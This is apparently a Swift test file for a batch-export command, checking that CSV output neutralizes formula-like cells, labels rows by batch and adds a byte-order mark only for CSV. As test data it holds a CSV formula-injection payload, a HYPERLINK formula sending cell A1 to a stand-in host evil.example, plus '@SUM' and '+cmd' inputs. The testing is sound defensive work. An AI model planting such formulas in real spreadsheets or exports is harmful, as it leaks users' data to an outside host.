import Foundation
import TestSupport
import Testing

/// `groqbatch export --format csv` as a spreadsheet user meets it: formulas in the data or the answers
/// arrive as text, rows of several batches say which batch they are from, `--bom` for Excel.
struct ExportCommandTests {
    let directory = TemporaryDirectory("export")
    var db: String { directory.path("q.sqlite") }

    func run(_ arguments: [String]) async throws -> CommandRun {
        try await CommandRun.groqbatchAwaiting(arguments + ["--db", db], directory: directory.url.path)
    }

    func csvLines(_ arguments: [String]) async throws -> [String] {
        let result = try await run(["export", "--format", "csv", "--with-input"] + arguments)
        #expect(result.status == 0, "\(result.stderr)")
        return result.stdout.split(separator: "\n").map(String.init)
    }

    static let link = #"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"#

    /// Two batches of the same rows (same custom ids), rows whose cells start formulas or are negative.
    func importTwoBatches() async throws {
        let template = directory.write("p.mustache", "{{subject}} costs {{amount}}")
        let data = directory.write("rows.csv", "id,subject,amount\nt1,\"\(Self.link)\",-3\nt2,@SUM(1),+cmd\n")
        for batch in ["a", "b"] {
            let result = try await run(["import", "--template", template, "--data", data, "--id-column", "id", "--batch", batch, "--model", "m1"])
            #expect(result.status == 0, "\(result.stderr)")
        }
    }

    @Test func csvCellsAreNeutralizedUnlessRawAndRowsOfSeveralBatchesNameTheirBatch() async throws {
        try await importTwoBatches()
        let all = try await csvLines([])
        #expect(all.count == 5)
        #expect(all[0] == "batch,custom_id,status,model,content,prompt_tokens,completion_tokens,total_tokens,error_code,error,id,subject,amount")
        #expect(all[1].hasPrefix("a,t1,queued,") && all[3].hasPrefix("b,t1,queued,"), "\(all)")
        let neutralized = "\"'" + Self.link + "\",-3"
        #expect(all[1].hasSuffix(",t1," + neutralized), "\(all[1])")
        #expect(all[2].hasSuffix(",t2,'@SUM(1),'+cmd"), "\(all[2])")

        // One batch: no batch column, its custom ids are unique.
        let one = try await csvLines(["--batch", "b"])
        #expect(one.count == 3 && one[0].hasPrefix("custom_id,status,") && one[1].hasPrefix("t1,queued,"))

        let raw = try await csvLines(["--raw-csv"])
        #expect(raw[1].hasSuffix(",t1,\"\(Self.link)\",-3") && raw[2].hasSuffix(",t2,@SUM(1),+cmd"), "\(raw)")

        // JSONL is unchanged: the input row as stored.
        let jsonl = try await run(["export", "--with-input", "--batch", "a"])
        let first = try JSONSerialization.jsonObject(with: Data(jsonl.stdout.split(separator: "\n")[0].utf8)) as? [String: Any]
        #expect((first?["input"] as? [String: Any])?["subject"] as? String == Self.link.replacingOccurrences(of: "\"\"", with: "\""))
    }

    @Test func bomStartsACsvFileAndIsRefusedForJsonl() async throws {
        try await importTwoBatches()
        let output = directory.path("answers.csv")
        let result = try await run(["export", "--bom", "--output", output])
        #expect(result.status == 0, "\(result.stderr)")
        let bytes = try Data(contentsOf: URL(fileURLWithPath: output))
        #expect(Array(bytes.prefix(9)) == [0xEF, 0xBB, 0xBF] + Array("batch,".utf8))
        let plain = try await run(["export", "--format", "csv"])
        #expect(plain.stdout.hasPrefix("batch,"), "no mark unless asked")
        for flag in ["--bom", "--raw-csv"] {
            let refused = try await run(["export", flag])
            #expect(refused.status != 0)
            #expect(refused.stderr.contains("\(flag) is for CSV"), "\(refused.stderr)")
        }
    }
}
